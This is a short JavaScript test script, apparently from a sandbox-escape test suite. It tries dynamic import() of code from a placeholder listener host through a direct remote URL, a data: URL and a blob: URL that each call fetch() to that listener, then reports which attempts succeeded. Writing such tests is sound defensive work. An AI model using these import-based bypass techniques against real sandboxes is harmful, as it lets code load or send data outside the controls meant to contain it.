/* global wire -- defined by hostile/wire.js, which packaging puts before this script */
/* Tries import() of a module on the listener, and of modules that would fetch from it. */
(async () => {
  const target = '__LISTENER__';
  const fetching = `fetch('${target}/imported-module-fetch')`;
  const results = {
    remote: await wire.attempt(() => import(`${target}/module.js`).then(() => 'imported')),
    data: await wire.attempt(() =>
      import(`data:text/javascript,${encodeURIComponent(fetching)}`).then(() => 'imported'),
    ),
    blob: await wire.attempt(() =>
      import(URL.createObjectURL(new Blob([fetching], { type: 'text/javascript' }))).then(
        () => 'imported',
      ),
    ),
  };
  await wire.report('dynamic import', results);
})();
